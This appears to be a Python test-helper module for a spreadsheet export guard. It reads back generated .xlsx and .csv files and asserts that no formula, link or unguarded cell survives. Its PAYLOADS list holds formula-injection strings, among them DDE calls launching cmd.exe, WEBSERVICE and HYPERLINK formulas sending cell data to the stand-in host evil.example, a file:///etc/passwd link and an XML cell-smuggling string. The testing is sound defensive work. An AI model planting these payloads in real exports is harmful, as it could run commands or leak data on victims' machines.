"""Texts that some spreadsheet would run, and a reader of what a file really holds: it forgives nothing."""

import csv
import io
import re
import zipfile
from dataclasses import dataclass
from xml.etree.ElementTree import Element

from defusedxml.ElementTree import fromstring

from indicators.workbook.guard import GUARDED_STARTS
from indicators.workbook.tables import BYTE_ORDER_MARK

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=WEBSERVICE("http://evil.example/")',
    '=IMPORTXML("http://evil.example/","//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!\"/c calc\"",
    "{=1+1}",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1\n+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1+1",
    "''=1+1",
    "'",
    '"=1+1',
    '","=1+1',
    "a;=1+1",
    "a,\n=1+1,",
    "%0A-3+3+cmd|' /C calc'!D2",
    "http://evil.example/",
    "mailto:office@evil.example",
    "internal:Sheet2!A1",
    "file:///etc/passwd",
    "<f>1+1</f>",
    "<r><t>x</t></r>",
    '<r></r></is></c><c r="A9"><f>1+1</f></c><c t="inlineStr"><is><r></r>',
    "_x003D_1+1",
    "#N/A",
    "TRUE",
    "007",
    "1e400",
    "0.1",
    "2026-03-05",
)

ESCAPE = re.compile("_x([0-9a-fA-F]{4})_")
NAMESPACE = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@dataclass(frozen=True, slots=True)
class RawCell:
    """A cell as the workbook's XML has it. `kind` is the type: inlineStr or s for text, n for a number."""

    address: str
    kind: str
    text: str
    is_formula: bool


def raw_cells(workbook: bytes) -> list[list[RawCell]]:
    """The rows of the first sheet. A cell's text is unescaped as the format says."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as package:
        sheet = fromstring(package.read("xl/worksheets/sheet1.xml"))
        shared = _shared_strings(package)
    return [[_raw(cell, shared) for cell in row] for row in sheet.iter(f"{NAMESPACE}row")]


def _shared_strings(package: zipfile.ZipFile) -> list[str]:
    if "xl/sharedStrings.xml" not in package.namelist():
        return []
    table = fromstring(package.read("xl/sharedStrings.xml"))
    return [_text(entry) for entry in table.iter(f"{NAMESPACE}si")]


def _text(element: Element) -> str:
    parts = (f"{NAMESPACE}t", f"{NAMESPACE}v")
    return "".join(part.text or "" for part in element.iter() if part.tag in parts)


def _raw(cell: Element, shared: list[str]) -> RawCell:
    text = _text(cell)
    if cell.attrib.get("t") == "s":
        text = shared[int(text)]
    unescaped = ESCAPE.sub(lambda found: chr(int(found[1], 16)), text)
    is_formula = cell.find(f"{NAMESPACE}f") is not None
    return RawCell(cell.attrib["r"], cell.attrib.get("t", "n"), unescaped, is_formula)


def texts_of(workbook: bytes) -> list[str]:
    """All texts of the first sheet; fails on a formula or a link."""
    cells = [cell for row in raw_cells(workbook) for cell in row]
    assert not [cell for cell in cells if cell.is_formula or cell.kind not in ("n", "inlineStr", "s")]
    assert b"<hyperlink" not in workbook
    return [cell.text for cell in cells if cell.kind != "n"]


def csv_rows(content: bytes) -> list[list[str]]:
    """The rows of a .csv, the guard still on."""
    text = content.decode("utf-8")
    assert text.startswith(BYTE_ORDER_MARK)
    return list(csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline="")))


def unguarded(cell: str) -> str:
    """The text that was written. Fails where a spreadsheet could run the cell: only numbers begin so."""
    is_number = re.fullmatch(r"-[0-9]+(\.[0-9]+)?", cell)
    assert is_number or not cell.startswith(tuple(start for start in GUARDED_STARTS if start != "'"))
    return cell.removeprefix("'")
